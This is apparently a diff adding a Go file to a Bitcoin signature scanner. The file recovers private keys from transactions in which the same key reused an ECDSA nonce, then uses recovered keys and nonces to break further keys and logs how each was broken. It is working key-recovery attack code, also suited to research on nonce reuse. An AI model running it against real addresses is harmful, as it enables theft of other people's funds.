@@ -0,0 +1,185 @@
+package main
+
+import (
+	"fmt"
+	"log"
+	"math/big"
+
+	"rscan"
+
+	"github.com/conformal/btcec"
+)
+
+// knownKey is a recovered private key, and how it was found: either from
+// sigs, two signatures with the same r, or from sigs[0] and the known
+// nonce of its r.
+type knownKey struct {
+	privKey *btcec.PrivateKey
+	sigs    []*rData
+	nonce   *knownNonce
+}
+
+// knownNonce is a recovered nonce, computed from sig and the private key
+// that made it.
+type knownNonce struct {
+	k   *big.Int
+	sig *rData
+	key *knownKey
+}
+
+// breaker spreads the known keys and nonces across all the signatures
+// sharing a r value, until nothing new is found.
+type breaker struct {
+	// targets are grouped by public key point and r
+	targets map[[2]string][]*rData
+
+	keys   map[string]*knownKey // by point
+	nonces map[string]*knownNonce
+
+	// failed has why RecoverKey failed on a target
+	failed map[[2]string]error
+}
+
+func newBreaker(targets map[[2]string][]*rData) *breaker {
+	return &breaker{
+		targets: targets,
+		keys:    make(map[string]*knownKey),
+		nonces:  make(map[string]*knownNonce),
+		failed:  make(map[[2]string]error),
+	}
+}
+
+func pointKey(rd *rData) string {
+	return string(rd.PubKey.SerializeCompressed())
+}
+
+func sigName(rd *rData) string {
+	return fmt.Sprintf("%v:%v", rd.tx.Sha(), rd.txInIndex)
+}
+
+// dropMalleated returns target without the signatures that are malleated
+// copies of an earlier one, which share its R without sharing a secret.
+// They are marked as skipped.
+func dropMalleated(target []*rData) []*rData {
+	var kept []*rData
+targetLoop:
+	for _, rd := range target {
+		for _, k := range kept {
+			if rscan.Malleated(k.Verified, rd.Verified) {
+				rd.status = statusSkipped
+				rd.reason = fmt.Sprintf("malleated copy of %v", sigName(k))
+				continue targetLoop
+			}
+		}
+		kept = append(kept, rd)
+	}
+	return kept
+}
+
+// run recovers what it can from the same key reusing a r value, and
+// then propagates.
+func (b *breaker) run() {
+	for key, target := range b.targets {
+		if len(target) < 2 || b.keys[key[0]] != nil {
+			continue
+		}
+
+		a, c := target[0], target[1]
+
+		log.Printf("[%v %v]\n", a.address, a.altAddress)
+		log.Printf("Repeated r value: %v (%v times)\n", a.r, len(target))
+
+		privKey, err := rscan.RecoverKey(a.Verified, c.Verified)
+		if err != nil {
+			log.Printf("RecoverKey error: %v\n\n", err)
+			b.failed[key] = err
+			continue
+		}
+		log.Print("\n")
+
+		b.keys[key[0]] = &knownKey{privKey: privKey, sigs: []*rData{a, c}}
+	}
+
+	for b.propagate() {
+	}
+}
+
+// propagate does a single pass over the signatures, and reports whether
+// anything new was found.
+func (b *breaker) propagate() bool {
+	found := false
+	for key, target := range b.targets {
+		point, r := key[0], key[1]
+
+		if k := b.keys[point]; k != nil && b.nonces[r] == nil {
+			rd := target[0]
+			if nonce := rscan.RecoverNonce(rd.Verified, k.privKey); nonce != nil {
+				b.nonces[r] = &knownNonce{k: nonce, sig: rd, key: k}
+				found = true
+			}
+		}
+
+		if n := b.nonces[r]; n != nil && b.keys[point] == nil {
+			rd := target[0]
+			privKey := rscan.RecoverKeyFromNonce(rd.Verified, n.k)
+			if privKey == nil {
+				continue
+			}
+			b.keys[point] = &knownKey{privKey: privKey, sigs: []*rData{rd}, nonce: n}
+			found = true
+		}
+	}
+	return found
+}
+
+// outcome returns the status of the signatures of a target, and how the
+// key was recovered or why it wasn't.
+func (b *breaker) outcome(key [2]string) (status, reason string) {
+	if k := b.keys[key[0]]; k != nil {
+		if k.nonce != nil {
+			return statusRecovered, "known nonce"
+		}
+		return statusRecovered, "reused r"
+	}
+	if err := b.failed[key]; err != nil {
+		return statusFailed, fmt.Sprintf("RecoverKey: %v", err)
+	}
+	if len(b.targets[key]) < 2 {
+		return statusFailed, "r not reused by the same key, nor known"
+	}
+	return statusFailed, "not recovered"
+}
+
+// chain returns the steps that led to k, starting from a key broken by
+// a reused r value.
+func (k *knownKey) chain() []string {
+	a := k.sigs[0]
+	if k.nonce == nil {
+		return []string{fmt.Sprintf("%v: r %v reused in %v and %v",
+			a.address, a.r, sigName(a), sigName(k.sigs[1]))}
+	}
+
+	n := k.nonce
+	steps := n.key.chain()
+	steps = append(steps, fmt.Sprintf("nonce for r %v from %v in %v",
+		n.sig.r, n.sig.address, sigName(n.sig)))
+	steps = append(steps, fmt.Sprintf("%v: r %v in %v",
+		a.address, a.r, sigName(a)))
+	return steps
+}
+
+// report logs how each key that needed a known nonce was broken.
+func (b *breaker) report() {
+	for _, k := range b.keys {
+		if k.nonce == nil {
+			continue
+		}
+		rd := k.sigs[0]
+		log.Printf("[%v %v]\n", rd.address, rd.altAddress)
+		log.Printf("Broken through a known nonce:\n")
+		for _, step := range k.chain() {
+			log.Printf("  %v\n", step)
+		}
+		log.Print("\n")
+	}
+}